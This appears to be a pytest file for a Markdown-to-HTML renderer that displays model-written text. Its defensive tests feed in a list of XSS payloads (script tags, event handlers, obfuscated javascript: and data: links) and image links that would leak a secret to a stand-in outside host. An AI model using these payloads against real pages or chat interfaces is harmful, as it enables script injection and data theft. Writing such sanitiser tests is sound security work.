"""What a model wrote is shown as Markdown, and never as more than that."""

from __future__ import annotations

import re
import time

import pytest

from console.prose import rendered


def test_it_is_markdown() -> None:
    html = rendered(
        "**Bold** and\nnext [1](#source-1)\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx < 1\n```"
    )
    for part in (
        "<strong>Bold</strong>",
        "<br",
        '<a href="#source-1">1</a>',
        "<li>one</li>",
        "<td>1</td>",
        "x &lt; 1",
    ):
        assert part in html


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:x)",
        "<javascript:alert(1)>",
        "[x](sign-in#token=of-somebody-else)",
        "[x](//elsewhere.example/)",
        "![x](https://elsewhere.example/?told=secret)",
        "![x][r]\n\n[r]: https://elsewhere.example/?told=secret",
        '[x](https://ok.example "\\"onmouseover=alert(1) x=\\"")',
        "```<script>\nx\n```",
        "|a|\n|---|\n|<img src=x onerror=alert(1)>|",
    ],
)
def test_nothing_of_it_runs_or_is_fetched(hostile: str) -> None:
    html = rendered(hostile)
    tags = {tag.lower() for tag in re.findall(r"<\s*([a-z]+)", html, re.IGNORECASE)}
    assert tags <= {"p", "a", "pre", "code", "table", "thead", "tbody", "tr", "th", "td", "br"}
    for attributes in re.findall(r"<a\b([^>]*)>", html):
        address = re.search(r'href="([^"]*)"', attributes)
        assert address is not None
        assert address[1].startswith(("https://", "#source-"))
        assert 'rel="noopener noreferrer"' in attributes
        assert set(re.findall(r'\b([a-z]+)="', attributes)) <= {"href", "target", "rel", "title"}


@pytest.mark.parametrize("piece", ["[", "![", "![[](", ">", "*a", "_", "<a ", "`a ", "|a", "\t", "- "])
def test_it_takes_bounded_time_and_never_fails(piece: str) -> None:
    began = time.process_time()
    rendered(piece * (40_000 // len(piece)))
    assert time.process_time() - began < 5
